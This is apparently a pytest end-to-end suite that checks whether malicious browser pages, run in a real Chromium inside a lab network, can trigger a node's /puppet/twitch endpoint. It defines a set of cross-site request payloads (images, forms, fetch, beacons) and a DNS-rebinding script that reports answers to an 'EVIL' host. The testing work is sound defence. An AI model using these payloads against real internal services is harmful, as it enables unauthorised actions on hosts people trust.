"""A page in somebody's browser starts no run, whatever it tries: real Chromium, from another machine's
address, since browsers trust loopback more."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote

import pytest

from tests.e2e import access, stub
from tests.e2e.browser import Site, chromium
from tests.lab.lab import Lab
from tests.lab.machine import Machine
from tests.lab.network import Netns

EVIL, EVIL6, VICTIM = "10.77.0.60", "fd77::60", "10.77.0.61"
PORT = 8000

# Each says `done` when the browser has an answer, or has given up on one.
DONE = f"fetch('http://{EVIL}:{PORT}/said/done', {{mode: 'no-cors'}})"
PAGES = {
    "img": f'<img src="URL" onload="{DONE}" onerror="{DONE}">',
    "img-no-referrer": f'<img src="URL" referrerpolicy="no-referrer" onload="{DONE}" onerror="{DONE}">',
    "script": f'<script src="URL" onload="{DONE}" onerror="{DONE}"></script>',
    "style": f'<link rel="stylesheet" href="URL" onload="{DONE}" onerror="{DONE}">',
    "iframe": f'<iframe src="URL" onload="{DONE}"></iframe>',
    "fetch-get": f"<script>fetch('URL', {{mode: 'no-cors'}}).finally(() => {DONE})</script>",
    "fetch-post": f"<script>fetch('URL', {{mode: 'no-cors', method: 'POST', body: 'async=true', headers:"
    " {'Content-Type': 'application/x-www-form-urlencoded'}, referrerPolicy: 'no-referrer'})"
    f".finally(() => {DONE})</script>",
    "fetch-with-headers": "<script>fetch('URL', {mode: 'no-cors', headers: {'Accept-Language': 'x'}})"
    f".finally(() => {DONE})</script>",
    "beacon": f"<script>navigator.sendBeacon('URL'); setTimeout(() => {DONE}, 500)</script>",
    "form-get": '<form id="g" action="URL" target="f"></form>'
    f'<iframe name="f" onload="this.n ? {DONE} : (this.n = 1, g.submit())"></iframe>',
    "form-post": '<form id="g" action="URL" method="POST" target="f"><input name="async" value="true"></form>'
    f'<iframe name="f" onload="this.n ? {DONE} : (this.n = 1, g.submit())"></iframe>',
    "prefetch": f'<link rel="prefetch" href="URL" onload="{DONE}" onerror="{DONE}">',
    "navigation": "<script>location = 'URL'</script>",
}


@pytest.fixture
def tidy(node12: Machine) -> Iterator[Machine]:
    stub.clear(node12)
    stub.stub_puppet(node12)
    yield node12
    stub.clear(node12)


@pytest.fixture(scope="session")
def evil(lab: Lab) -> Netns:
    return lab.client(EVIL, EVIL6)


@pytest.fixture(scope="session")
def victim(lab: Lab) -> Netns:
    netns = lab.client(VICTIM, "fd77::61")
    # Chromium uses IPv6 only where it looks as if it led somewhere.
    netns.run("ip", "-6", "route", "add", "default", "via", "fd77::1")
    return netns


@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)
def test_no_page_starts_a_run(tidy: Machine, evil: Netns, victim: Netns, page: str) -> None:
    # The same address may, with curl: what is refused is the browser.
    before, place = access.questions(tidy), access.now(tidy)
    site = Site(evil, EVIL, PORT)
    site.page = f"<!doctype html><body>{page}</body>".replace(
        "URL", f"http://{tidy.address}:2023/puppet/twitch"
    )
    try:
        with chromium(victim, f"http://{EVIL}:{PORT}/"):
            if "said" in page:
                site.said.get(timeout=60)
                tidy.run("systemctl", "stop", "puppet-twitch.service")  # which writes it down at once
            access.heard_refusing(tidy, place, VICTIM)
    finally:
        site.close()
    assert access.questions(tidy) == before
    assert stub.stub_log(tidy) == []
    assert access.remote(victim, f"http://{tidy.address}:2023/puppet/twitch").status == 202


REBOUND = """\
<!doctype html><script>
const tell = said => fetch('http://EVIL:8000/said/' + encodeURIComponent(said), {mode: 'no-cors'});
const attempts = [
  {}, {method: 'POST'}, {referrerPolicy: 'no-referrer'}, {method: 'POST', referrerPolicy: 'no-referrer'},
  {headers: {'Accept-Language': '', 'User-Agent': 'curl/8'}, referrerPolicy: 'no-referrer'},
  {method: 'POST', headers: {'Accept-Language': '', 'User-Agent': 'curl/8'}, referrerPolicy: 'no-referrer'},
];
(async () => {
  await tell('loaded');
  for (;;) {  // until the site of this name is another one
    try {
      if ((await (await fetch('/info')).text()).startsWith('Puppet Twitch')) break;
    } catch {}
    await new Promise(later => setTimeout(later, 100));
  }
  const answers = [];
  for (const attempt of attempts) {
    const answer = await fetch('/puppet/twitch', attempt);
    answers.push(answer.status + ' ' + await answer.text());
  }
  await tell('answers ' + answers.join('|'));
})();
</script>
"""


def test_a_name_that_becomes_the_nodes_starts_no_run(
    tidy: Machine, evil: Netns, victim: Netns, tmp_path: Path
) -> None:
    # A name with two addresses: when the site goes from the first, the browser tries the second.
    hosts = tmp_path / "hosts"
    hosts.write_text(f"127.0.0.1 localhost\n{EVIL6} rebound.test\n{tidy.address} rebound.test\n")
    prefix = ("unshare", "--mount", "sh", "-c", f'mount --bind {hosts} /etc/hosts && exec "$@"', "sh")
    before = access.questions(tidy)
    heard = Site(evil, EVIL, PORT)
    site = Site(evil, EVIL6, 2023)
    site.page = REBOUND.replace("EVIL", EVIL)
    try:
        with chromium(victim, "http://rebound.test:2023/", prefix=prefix):
            assert heard.said.get(timeout=60) == "loaded"
            site.close()
            said = unquote(heard.said.get(timeout=60))
    finally:
        heard.close()
    assert said == "answers " + "|".join(["403 Not from a browser; use curl\n"] * 6)
    assert access.questions(tidy) == before
    assert stub.stub_log(tidy) == []
